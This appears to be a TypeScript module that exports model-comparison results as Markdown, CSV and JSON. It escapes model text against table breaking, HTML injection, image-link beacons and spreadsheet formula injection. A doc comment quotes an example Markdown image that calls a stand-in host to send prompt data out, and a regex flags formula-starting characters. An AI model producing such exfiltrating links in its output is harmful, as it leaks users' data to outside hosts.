// A comparison record as a file to keep or share: Markdown for reading (a column per setting, a row
// per sample, then each column's metrics), CSV for a spreadsheet (a row per cell), JSON for tools.
// Model text is untrusted: it must not break the Markdown table, inject HTML, or become a formula
// when the CSV is opened in a spreadsheet.
import { columnTarget, type ComparisonCell, type ComparisonRecord, type TokenBudget } from './comparison';
import type { ColumnMetrics } from './metrics';

export function comparisonToJson(record: ComparisonRecord): string {
  return `${JSON.stringify(record, null, 2)}\n`;
}

/** What a cell shows in a table: its text, or why it has none (an error, a stop, not run yet). */
export function cellDisplayText(cell: Pick<ComparisonCell, 'status' | 'text' | 'result'>): string {
  const text = cell.text.trim();
  switch (cell.status) {
    case 'done': return text;
    case 'failed': return `[error] ${cell.result?.error?.message ?? 'unknown error'}`;
    case 'stopped': return text ? `[stopped] ${text}` : '[stopped]';
    case 'running': return text ? `[running] ${text}` : '[running]';
    case 'queued': return '[queued]';
  }
}

/** Text safe inside one Markdown table cell: GFM splits cells on unescaped `|` (a backslash before
 * it must not escape the escape), ends the row at a newline, and passes HTML through. Brackets are
 * escaped too: model text `![](https://x.example/?q=…)` would be an image every viewer of the file
 * fetches (a beacon, or a way out for data the prompt held), `[text](url)` a disguised link. */
export function markdownCellText(text: string): string {
  return text
    .replace(/\\/g, '\\\\')
    .replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')
    .replace(/\|/g, '\\|')
    .replace(/[[\]]/g, '\\$&')
    .replace(/\r\n|\r|\n/g, '<br>');
}

/** Text safe on one Markdown line outside a table (the heading's file name, labels). */
const markdownLineText = (text: string) => markdownCellText(text.replace(/\s+/g, ' ')).replace(/<br>/g, ' ');

const two = (value: number | undefined) => (value === undefined ? '–' : value.toFixed(2));
/** 12,345. Not toLocaleString for whole numbers: its first call loads ICU's locale data, ~20 ms of a
 * CLI comparison's start-up (issue 15). */
const thousands = (value: number) => (Number.isInteger(value) ? String(value).replace(/\B(?=(\d{3})+(?!\d))/g, ',') : value.toLocaleString('en-US'));

/** `1,234 prompt tokens (instruction 200 · … · overhead 7) of a 128,000-token context window; $2.50 in / $10.00 out per 1M tokens (built-in)`. */
export function tokenBudgetLine(tokens: TokenBudget): string {
  const parts = [...tokens.parts.map((part) => `${part.name} ${thousands(part.tokens)}`), `overhead ${thousands(tokens.overhead)}`].join(' · ');
  const window = tokens.contextWindow === undefined ? '' : ` of a ${thousands(tokens.contextWindow)}-token context window`;
  const counted = `${tokens.exact ? '' : 'about '}${thousands(tokens.total)} prompt tokens (${parts})${window}, ${tokens.tokenizer}`;
  const price = tokens.price === undefined ? 'price unknown'
    : `$${tokens.price.input.toFixed(2)} in / $${tokens.price.output.toFixed(2)} out per 1M tokens (${tokens.price.source})`;
  return `${counted}; ${price}`;
}

/** The metrics' table columns: agreement with the reference only when there is one. */
function metricColumns(record: ComparisonRecord): [string, (metrics: ColumnMetrics) => string][] {
  const columns: [string, (metrics: ColumnMetrics) => string][] = [
    ['mean length (words)', (m) => m.meanWords.toFixed(1)],
    ['distinct-1', (m) => two(m.distinct1)],
    ['distinct-2', (m) => two(m.distinct2)],
    ['samples alike (ROUGE-L)', (m) => two(m.meanPairwiseRougeL)],
  ];
  if (record.reference !== undefined || record.columns.some((column) => column.metrics?.rouge1 !== undefined)) {
    columns.push(
      ['ROUGE-1', (m) => two(m.rouge1)],
      ['ROUGE-2', (m) => two(m.rouge2)],
      ['ROUGE-L', (m) => two(m.rougeL)],
      ['BLEU', (m) => (m.bleu === undefined ? '–' : m.bleu.toFixed(1))],
    );
  }
  return columns;
}

const row = (cells: string[]) => `| ${cells.join(' | ')} |`;

/** True when the columns run on backends and models of their own (a `model` axis). */
const acrossModels = (record: ComparisonRecord) => record.columns.some((column) => column.backend !== undefined);

/** `local/stories260K`; `local/default` when the backend picks its model. */
const targetText = (record: ComparisonRecord, column: number) => {
  const { backend, model } = columnTarget(record, column);
  return `${backend}/${model || 'default'}`;
};

/** The header's backend/model line: the prompt's own, or what each model axis value ran on. */
function backendLine(record: ComparisonRecord): string {
  if (!acrossModels(record)) return `${record.backend}/${record.model || 'default'}`;
  const byValue = new Map(record.columns.map((column, index) => [column.settings.model, targetText(record, index)]));
  return [...byValue].map(([value, target]) => `model ${value} → ${target}`).join(' · ');
}

export function comparisonToMarkdown(record: ComparisonRecord): string {
  const fixed = Object.entries(record.settings).map(([name, value]) => `${name} ${Array.isArray(value) ? value.join(', ') : String(value)}`);
  const lines = [
    `# Comparison: ${markdownLineText(record.prompt.fileName)}`,
    '',
    `- File: ${markdownLineText(record.prompt.file)} (sha256 ${record.prompt.sha256})`,
    `- Backend/model: ${markdownLineText(backendLine(record))}`,
    `- Samples: ${record.samples} per setting, seeds ${record.seeds.join(', ')}`,
    ...(fixed.length > 0 ? [`- Fixed settings: ${markdownLineText(fixed.join(' · '))}`] : []),
    `- Date: ${record.createdAt}`,
    ...(record.tokens ? [`- Tokens: ${markdownLineText(tokenBudgetLine(record.tokens))}`] : []),
    '',
    row(['sample', ...record.columns.map((column) => markdownCellText(column.label))]),
    row(['---', ...record.columns.map(() => '---')]),
  ];
  for (let sample = 0; sample < record.samples; sample++) {
    const cells = record.columns.map((_, column) => {
      const cell = record.cells.find((c) => c.column === column && c.sample === sample);
      return cell ? markdownCellText(cellDisplayText(cell)) : '';
    });
    const seed = record.seeds[sample];
    lines.push(row([`${sample + 1}${seed === undefined ? '' : ` (seed ${seed})`}`, ...cells]));
  }
  const metrics = metricColumns(record);
  lines.push('', '## Metrics', '', row(['setting', ...metrics.map(([name]) => name)]), row(['---', ...metrics.map(() => '---')]));
  for (const column of record.columns) {
    lines.push(row([markdownCellText(column.label), ...metrics.map(([, value]) => (column.metrics ? value(column.metrics) : '–'))]));
  }
  return `${lines.join('\n')}\n`;
}

/** Characters that make a spreadsheet read a cell as a formula (or strip into one). */
const FORMULA_START = /^[=+\-@\t\r]/;

/** A field for RFC 4180: quoted when it holds a comma, quote, CR or LF; text that would start a
 * formula gets a leading `'` first. Numbers we wrote ourselves are passed as numbers: never guarded. */
export function csvField(value: string | number | boolean | undefined): string {
  if (value === undefined) return '';
  if (typeof value !== 'string') return String(value);
  const safe = FORMULA_START.test(value) ? `'${value}` : value;
  return /[",\r\n]/.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe;
}

const rounded = (value: number | undefined, digits: number) => (value === undefined ? undefined : Number(value.toFixed(digits)));

/** One row per cell, row by row as the record keeps them; samples numbered from 1. */
export function comparisonToCsv(record: ComparisonRecord): string {
  const axes = record.axes.map((axis) => axis.name);
  // Under a model axis, where each column ran: the axis value says what was asked for, these what ran.
  const targets = acrossModels(record) ? ['backend', 'model name'] : [];
  const header = ['column', ...axes, ...targets, 'sample', 'seed', 'status', 'text', 'prompt tokens', 'completion tokens', 'tokens estimated',
    'latency ms', 'time to first token ms', 'tokens/s', 'finish reason', 'error'];
  const rows: (string | number | boolean | undefined)[][] = [header];
  for (const cell of record.cells) {
    const column = record.columns[cell.column];
    const result = cell.result;
    const target = columnTarget(record, cell.column);
    rows.push([
      column?.label, ...axes.map((axis) => column?.settings[axis]),
      ...(targets.length > 0 ? [target.backend, target.model] : []), cell.sample + 1, cell.seed, cell.status, cell.text,
      result?.usage.promptTokens, result?.usage.completionTokens, result?.usage.estimated,
      rounded(result?.latencyMs, 0), rounded(result?.timeToFirstTokenMs, 0), rounded(result?.tokensPerSecond, 2),
      result?.finishReason, result?.error?.message,
    ]);
  }
  return rows.map((fields) => `${fields.map(csvField).join(',')}\r\n`).join('');
}
